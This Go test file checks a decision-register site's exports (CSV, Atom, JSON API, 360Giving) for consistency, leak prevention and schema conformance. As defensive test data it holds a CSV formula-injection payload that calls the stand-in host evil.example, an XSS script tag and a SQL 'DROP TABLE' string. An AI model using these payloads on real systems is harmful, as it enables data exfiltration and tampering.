package server_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/jackc/pgx/v5"

	"github.com/decision-register/decisions/internal/dbtest"
	"github.com/decision-register/decisions/internal/testsite"
)

// pageRefs are the references a results page lists, in order.
func pageRefs(r response) []string {
	var refs []string
	r.doc.Find(`[data-testid="decision-item"] h2 a`).Each(func(_ int, s *goquery.Selection) {
		ref, _, _ := strings.Cut(strings.TrimSpace(s.Text()), ":")
		refs = append(refs, ref)
	})
	return refs
}

func local(u string) string {
	return strings.TrimPrefix(u, testsite.BaseURL)
}

type apiList struct {
	Count       int  `json:"count"`
	CountCapped bool `json:"count_capped"`
	Decisions   []struct {
		Reference string `json:"reference"`
		Slug      string `json:"slug"`
	} `json:"decisions"`
	Links struct {
		Self string  `json:"self"`
		Next *string `json:"next"`
		Prev *string `json:"prev"`
	} `json:"links"`
}

func getJSON(t *testing.T, ts *testServer, path string, v any) response {
	t.Helper()
	r := ts.get(t, path)
	if err := json.Unmarshal([]byte(r.body), v); err != nil {
		t.Fatalf("GET %q: %v\n%s", path, err, r.body)
	}
	return r
}

func csvRows(t *testing.T, ts *testServer, path string) [][]string {
	t.Helper()
	r := ts.get(t, path)
	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("GET %q = %d %s", path, r.status, r.header.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("GET %q: not CSV: %v", path, err)
	}
	return rows
}

type atomDoc struct {
	XMLName xml.Name `xml:"http://www.w3.org/2005/Atom feed"`
	ID      string   `xml:"id"`
	Title   string   `xml:"title"`
	Updated string   `xml:"updated"`
	Author  struct {
		Name string `xml:"name"`
	} `xml:"author"`
	Entries []struct {
		ID        string `xml:"id"`
		Title     string `xml:"title"`
		Updated   string `xml:"updated"`
		Published string `xml:"published"`
		Link      struct {
			Href string `xml:"href,attr"`
		} `xml:"link"`
		Summary string `xml:"summary"`
	} `xml:"entry"`
}

// TestExportsEqualThePage: for each query, the page, the JSON API (page by page), the CSV and
// the Atom feed list the same decisions in the same order.
func TestExportsEqualThePage(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, status, date_signed)
		SELECT 'MD', n, 'MD ' || n, 'md-' || n, 'Synthetic funding decision ' || n, 'published', DATE '2024-01-01' + n
		FROM generate_series(1, 25) n`)
	for _, query := range []string{"", "q=county+lines", "q=synthetic&sort=newest", "series=MD", "q=funding&series=pcd",
		"funder=Home+Office", "fy=2022-23", "min=1m&sort=amount", "from=2024-01-10&to=2024-01-20"} {
		sep := "?"
		if query == "" {
			sep = ""
		}
		// The page, following Next to the end.
		var page []string
		path := "/decisions" + sep + query
		for path != "" {
			r := ts.get(t, path)
			if r.status != http.StatusOK {
				t.Fatalf("GET %q = %d", path, r.status)
			}
			page = append(page, pageRefs(r)...)
			path, _ = r.doc.Find(`a[rel="next"]`).Attr("href")
			if links := r.doc.Find(`[data-testid="exports"] a`); links.Length() != 3 {
				t.Errorf("GET %q: %d export links, want 3", path, links.Length())
			}
		}
		var api []string
		path = "/api/v1/decisions" + sep + query
		for path != "" {
			var l apiList
			getJSON(t, ts, path, &l)
			for _, d := range l.Decisions {
				api = append(api, d.Reference)
			}
			path = ""
			if l.Links.Next != nil {
				path = local(*l.Links.Next)
			}
		}
		if !slices.Equal(api, page) {
			t.Errorf("%q: API %v, page %v", query, api, page)
		}
		// Pages of another size, whose links keep it, list the same.
		api = nil
		path = "/api/v1/decisions?limit=7&" + query
		for path != "" {
			var l apiList
			getJSON(t, ts, path, &l)
			if len(l.Decisions) > 7 {
				t.Errorf("%q: %d decisions on a page of 7", path, len(l.Decisions))
			}
			for _, d := range l.Decisions {
				api = append(api, d.Reference)
			}
			path = ""
			if l.Links.Next != nil {
				if path = local(*l.Links.Next); !strings.Contains(path, "limit=7") {
					t.Errorf("%q: next link %q lost the page size", query, path)
				}
			}
		}
		if !slices.Equal(api, page) {
			t.Errorf("%q: API by 7 %v, page %v", query, api, page)
		}
		var csvRefs []string
		for _, row := range csvRows(t, ts, "/decisions.csv"+sep+query)[1:] {
			csvRefs = append(csvRefs, row[0])
		}
		if !slices.Equal(csvRefs, page) {
			t.Errorf("%q: CSV %v, page %v", query, csvRefs, page)
		}
		// The feed is the newest first.
		var newest []string
		v, _ := url.ParseQuery(query)
		v.Set("sort", "newest")
		path = "/decisions?" + v.Encode()
		for path != "" {
			r := ts.get(t, path)
			newest = append(newest, pageRefs(r)...)
			path, _ = r.doc.Find(`a[rel="next"]`).Attr("href")
		}
		r := ts.get(t, "/decisions.atom"+sep+query)
		var feed atomDoc
		if err := xml.Unmarshal([]byte(r.body), &feed); err != nil {
			t.Fatalf("%q: feed: %v", query, err)
		}
		var atom []string
		for _, e := range feed.Entries {
			ref, _, _ := strings.Cut(e.Title, ":")
			atom = append(atom, ref)
		}
		if !slices.Equal(atom, newest[:min(len(newest), 50)]) {
			t.Errorf("%q: feed %v, newest page %v", query, atom, newest)
		}
	}
}

// TestAtomFeedIsValid checks what RFC 4287 requires of a feed and its entries.
func TestAtomFeedIsValid(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	r := ts.get(t, "/decisions.atom?funder=Home+Office")
	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "application/atom+xml") {
		t.Fatalf("feed = %d %s", r.status, r.header.Get("Content-Type"))
	}
	var feed atomDoc
	if err := xml.Unmarshal([]byte(r.body), &feed); err != nil {
		t.Fatal(err)
	}
	if feed.ID == "" || feed.Title == "" || feed.Author.Name == "" {
		t.Errorf("feed lacks id, title or author: %+v", feed)
	}
	if _, err := time.Parse(time.RFC3339, feed.Updated); err != nil {
		t.Errorf("feed updated %q: %v", feed.Updated, err)
	}
	if len(feed.Entries) == 0 {
		t.Fatal("no entries for funder Home Office")
	}
	ids := map[string]bool{}
	for _, e := range feed.Entries {
		if _, err := time.Parse(time.RFC3339, e.Updated); err != nil || e.ID == "" || e.Title == "" || ids[e.ID] {
			t.Errorf("entry %+v: missing, repeated or bad fields (%v)", e, err)
		}
		ids[e.ID] = true
		if !strings.HasPrefix(e.Link.Href, testsite.BaseURL+"/decisions/") {
			t.Errorf("entry link %q", e.Link.Href)
		}
	}
	// An entry is published on its date signed, when that is recorded.
	dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, status, date_signed)
		VALUES ('MD', 78, 'MD 78', 'md-78', 'Signed on a known day', 'published', '2024-05-07')`)
	var md atomDoc
	if err := xml.Unmarshal([]byte(ts.get(t, "/decisions.atom?series=MD").body), &md); err != nil || len(md.Entries) != 1 ||
		md.Entries[0].Published != "2024-05-07T00:00:00Z" {
		t.Errorf("MD feed entries %+v (%v), want one published 2024-05-07T00:00:00Z", md.Entries, err)
	}
	for _, e := range feed.Entries {
		if e.Published != "" {
			t.Errorf("entry %q published %q, but no date signed is recorded for the real decisions", e.ID, e.Published)
		}
	}
	if r := ts.get(t, "/decisions.atom?fy=nonsense"); r.status != http.StatusBadRequest {
		t.Errorf("feed with a bad year = %d, want 400", r.status)
	}
}

// TestCSVRoundTrips: commas, quotes and newlines in a title come back exactly.
func TestCSVRoundTrips(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	title := "Knives, \"quotes\" and\r\nnew lines, =SUM(A1) ünïcödé"
	formula := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, summary, status)
		VALUES ('MD', 77, 'MD 77', 'md-77', $1, $2, 'published')`, title, "Line one\nline two, \"quoted\"")
	rows := csvRows(t, ts, "/decisions.csv?series=MD")
	if !slices.Equal(rows[0], []string{"reference", "url", "title", "summary", "date_signed", "decision_maker", "funder",
		"series", "status", "total_pence", "total", "financial_years", "synthetic"}) {
		t.Errorf("header = %v", rows[0])
	}
	if len(rows) != 2 || rows[1][0] != "MD 77" || rows[1][2] != strings.ReplaceAll(title, "\r\n", "\n") && rows[1][2] != title {
		t.Fatalf("rows = %q", rows)
	}
	if rows[1][3] != "Line one\nline two, \"quoted\"" {
		t.Errorf("summary = %q", rows[1][3])
	}
	// A title a spreadsheet would run as a formula is written as text; the API keeps it exact.
	for i, start := range []string{"=", "+", "-", "@", "\t", "  =", "＝"} {
		// A signed title cannot change: each is a decision of its own series.
		series := "F" + string(rune('A'+i))
		dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, status)
			VALUES ($1, 77, $1 || ' 77', lower($1) || '-77', $2, 'published')`, series, start+formula[1:])
		rows := csvRows(t, ts, "/decisions.csv?series="+series)
		if len(rows) != 2 || rows[1][2] != "'"+start+formula[1:] {
			t.Errorf("CSV title for %q = %q, want it after an apostrophe", start+formula[1:], rows[1][2])
		}
	}
	var api struct{ Title string }
	if err := json.Unmarshal([]byte(ts.get(t, "/api/v1/decisions/fg-77").body), &api); err != nil || api.Title != "＝"+formula[1:] {
		t.Errorf("API title = %q (%v), want the title exactly as held", api.Title, err)
	}
	// Money and years as the site writes them.
	for _, row := range csvRows(t, ts, "/decisions.csv?q=pcd+1682")[1:] {
		if row[0] == "PCD 1682" && (row[9] != "275500000" || row[10] != "2755000" || !strings.Contains(row[11], "-")) {
			t.Errorf("PCD 1682 row = %q", row)
		}
	}
	if r := ts.get(t, "/decisions.csv?min=abc"); r.status != http.StatusBadRequest || !strings.Contains(r.body, "min:") {
		t.Errorf("CSV with a bad amount = %d %q", r.status, r.body)
	}
}

// TestExportsNeverLeak plants a draft, a deferred decision and Part II text on a published
// decision, and asks every export and the API for them as the public.
func TestExportsNeverLeak(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	const secret = "PLANTEDSECRET"
	ctx := context.Background()
	var stmts []string
	for _, sql := range []string{
		`INSERT INTO decisions (series, number, reference, slug, title, summary, status) VALUES
			('MD', 501, 'MD 501', 'md-501', 'Public decision about parks', 'Parks.', 'published'),
			('MD', 502, 'MD 502', 'md-502', '` + secret + ` draft title', '` + secret + `', 'draft')`,
		`INSERT INTO sections (decision_id, part, position, kind, heading, body)
			SELECT id, 2, 1, 'other', 'Confidential', '` + secret + ` parks part two' FROM decisions WHERE slug = 'md-501'`,
		`INSERT INTO sections (decision_id, part, position, kind, heading, body)
			SELECT id, 1, 1, 'other', 'Background', 'Parks and gardens.' FROM decisions WHERE slug = 'md-501'`,
		`INSERT INTO decisions (series, number, reference, slug, title, status, publish_at) VALUES
			('MD', 503, 'MD 503', 'md-503', '` + secret + ` deferred', 'approved', now() + interval '1 day')`,
	} {
		stmts = append(stmts, sql)
	}
	dbtest.Publish(t, ts.pool, func(tx pgx.Tx) error {
		for _, sql := range stmts {
			if _, err := tx.Exec(ctx, sql); err != nil {
				return fmt.Errorf("%s: %w", sql, err)
			}
		}
		return nil
	})
	var paths []string
	for _, q := range []string{"", "q=" + secret, "q=" + strings.ToLower(secret), "q=parks", "q=confidential", "q=deferred",
		"series=MD", "q=md+502", "q=md+503+parks", "sort=amount"} {
		for _, p := range []string{"/decisions", "/decisions.csv", "/decisions.atom", "/api/v1/decisions",
			"/360giving", "/360giving.json", "/360giving.csv"} {
			paths = append(paths, p+"?"+q)
		}
	}
	paths = append(paths, "/api/v1/decisions/md-501", "/api/v1/decisions/md-502", "/api/v1/decisions/md-503", "/", "/decisions/md-501")
	for _, p := range paths {
		r := ts.get(t, p)
		leaked := slices.ContainsFunc([]string{secret + " draft", secret + " parks", secret + " deferred", "md-502", "md-503"},
			func(s string) bool { return strings.Contains(strings.ToUpper(r.body), strings.ToUpper(s)) })
		if !strings.Contains(p, "50") {
			leaked = leaked || strings.Contains(r.body, "MD 502") || strings.Contains(r.body, "MD 503")
		}
		if leaked {
			t.Errorf("GET %q shows hidden text", p)
		}
		if r.status >= 500 {
			t.Errorf("GET %q = %d", p, r.status)
		}
	}
	if r := ts.get(t, "/api/v1/decisions/md-502"); r.status != http.StatusNotFound {
		t.Errorf("API for a draft = %d, want 404", r.status)
	}
	var d map[string]any
	if r := getJSON(t, ts, "/api/v1/decisions/md-501", &d); r.status != http.StatusOK {
		t.Errorf("API for md-501 = %d", r.status)
	}
	if secs, _ := d["sections"].([]any); len(secs) != 1 {
		t.Errorf("md-501 has %d sections in the API, want its Part I only", len(secs))
	}
}

// TestOpenAPIMatchesResponses checks real responses against the OpenAPI document's schemas.
func TestOpenAPIMatchesResponses(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	withDocument, _ := ts.site.Published(t, 99200, "A decision with a document",
		testsite.Doc{Name: "Figures", Body: []byte("area,amount\nHackney,1200\nCamden,900\n")})
	var doc map[string]any
	r := getJSON(t, ts, "/api/v1/openapi.json", &doc)
	if r.status != http.StatusOK || doc["openapi"] != "3.1.0" {
		t.Fatalf("openapi.json = %d, version %v", r.status, doc["openapi"])
	}
	schemas := doc["components"].(map[string]any)["schemas"].(map[string]any)
	// Every documented response is one the server gives.
	paths := doc["paths"].(map[string]any)
	for _, p := range []string{"/api/v1/decisions", "/api/v1/decisions/{slug}"} {
		if paths[p] == nil {
			t.Errorf("openapi.json lacks %s", p)
		}
	}
	for _, tt := range []struct {
		path   string
		status int
		schema string
	}{
		{"/api/v1/decisions", 200, "DecisionList"},
		{"/api/v1/decisions?q=county+lines&fy=2022-23&sort=amount", 200, "DecisionList"},
		{"/api/v1/decisions?q=zebra", 200, "DecisionList"},
		{"/api/v1/decisions/pcd-1682", 200, "Decision"},
		{"/api/v1/decisions/pcd-1532", 200, "Decision"},
		{"/api/v1/decisions/pcd-867", 200, "Decision"},
		{"/api/v1/decisions/" + withDocument, 200, "Decision"},
		{"/api/v1/decisions/pcd-9999", 404, "Error"},
		{"/api/v1/decisions?min=lots", 400, "Error"},
		{"/api/v1/decisions?cursor=forged", 400, "Error"},
	} {
		var body any
		r := getJSON(t, ts, tt.path, &body)
		if r.status != tt.status {
			t.Errorf("GET %q = %d, want %d", tt.path, r.status, tt.status)
		}
		for _, e := range validate(schemas, map[string]any{"$ref": "#/components/schemas/" + tt.schema}, body, "$") {
			t.Errorf("GET %q: %s", tt.path, e)
		}
	}
}

// validate checks v against the subset of JSON Schema the document uses: $ref, type (one or a
// list), required, properties, items, enum, pattern-free strings.
func validate(schemas map[string]any, schema map[string]any, v any, at string) []string {
	if ref, ok := schema["$ref"].(string); ok {
		return validate(schemas, schemas[strings.TrimPrefix(ref, "#/components/schemas/")].(map[string]any), v, at)
	}
	var errs []string
	if typ, ok := schema["type"]; ok {
		types := []string{}
		switch t := typ.(type) {
		case string:
			types = append(types, t)
		case []any:
			for _, x := range t {
				types = append(types, x.(string))
			}
		}
		if !slices.ContainsFunc(types, func(t string) bool { return jsonType(v, t) }) {
			return []string{fmt.Sprintf("%s: %T is not %v", at, v, types)}
		}
	}
	if enum, ok := schema["enum"].([]any); ok && !slices.Contains(enum, v) {
		errs = append(errs, fmt.Sprintf("%s: %v not in %v", at, v, enum))
	}
	if obj, ok := v.(map[string]any); ok {
		props, _ := schema["properties"].(map[string]any)
		required, _ := schema["required"].([]any)
		for _, name := range required {
			if _, ok := obj[name.(string)]; !ok {
				errs = append(errs, fmt.Sprintf("%s: lacks %s", at, name))
			}
		}
		for k, x := range obj {
			sub, ok := props[k].(map[string]any)
			if !ok {
				errs = append(errs, fmt.Sprintf("%s: %s is not documented", at, k))
				continue
			}
			errs = append(errs, validate(schemas, sub, x, at+"."+k)...)
		}
	}
	if arr, ok := v.([]any); ok {
		if items, ok := schema["items"].(map[string]any); ok {
			for i, x := range arr {
				errs = append(errs, validate(schemas, items, x, fmt.Sprintf("%s[%d]", at, i))...)
			}
		}
	}
	return errs
}

func jsonType(v any, t string) bool {
	switch t {
	case "null":
		return v == nil
	case "string":
		_, ok := v.(string)
		return ok
	case "boolean":
		_, ok := v.(bool)
		return ok
	case "integer":
		f, ok := v.(float64)
		return ok && f == float64(int64(f))
	case "number":
		_, ok := v.(float64)
		return ok
	case "array":
		_, ok := v.([]any)
		return ok
	case "object":
		_, ok := v.(map[string]any)
		return ok
	}
	return false
}

// TestExportsRefuseHostileInput: every parameter of every export, with hostile values, gives
// a 400 or a normal answer, never a 500, and never reflects markup unescaped.
func TestExportsRefuseHostileInput(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	values := []string{`<script>alert("x")</script>`, "a\x00b", "\xff\xfe", strings.Repeat("9", 10000), "-5",
		"99999999999999999999", "2024-13-45", "'; DROP TABLE decisions; --", "AQIAAAAAAAAAB9YAAAAAAAAAEDewShBXHgeb"}
	for _, path := range []string{"/decisions.csv", "/decisions.atom", "/api/v1/decisions", "/360giving", "/360giving.json", "/360giving.csv"} {
		for _, name := range []string{"q", "fy", "maker", "funder", "series", "status", "min", "max", "from", "to", "sort", "cursor"} {
			for _, v := range values {
				p := path + "?" + name + "=" + url.QueryEscape(v)
				r := ts.get(t, p)
				if r.status != http.StatusOK && r.status != http.StatusBadRequest {
					t.Errorf("GET %.70q = %d, want 200 or 400", p, r.status)
				}
				if strings.Contains(r.body, "<script>") {
					t.Errorf("GET %.70q reflects markup", p)
				}
			}
		}
	}
	// The API's page size: a whole number from 1 to 100, else a 400 naming it.
	for _, v := range append([]string{"0", "101", "2.5", "x"}, values...) {
		p := "/api/v1/decisions?limit=" + url.QueryEscape(v)
		if r := ts.get(t, p); r.status != http.StatusBadRequest || !strings.Contains(r.body, `"limit"`) {
			t.Errorf("GET %.70q = %d %.200s, want 400 naming limit", p, r.status, r.body)
		}
	}
	for _, p := range []string{"/api/v1/decisions/%3Cscript%3E", "/api/v1/decisions/pcd-1682%00", "/api/v1/decisions/" + strings.Repeat("a", 5000)} {
		if r := ts.get(t, p); r.status != http.StatusNotFound && r.status != http.StatusBadRequest {
			t.Errorf("GET %.70q = %d, want 404", p, r.status)
		}
	}
}
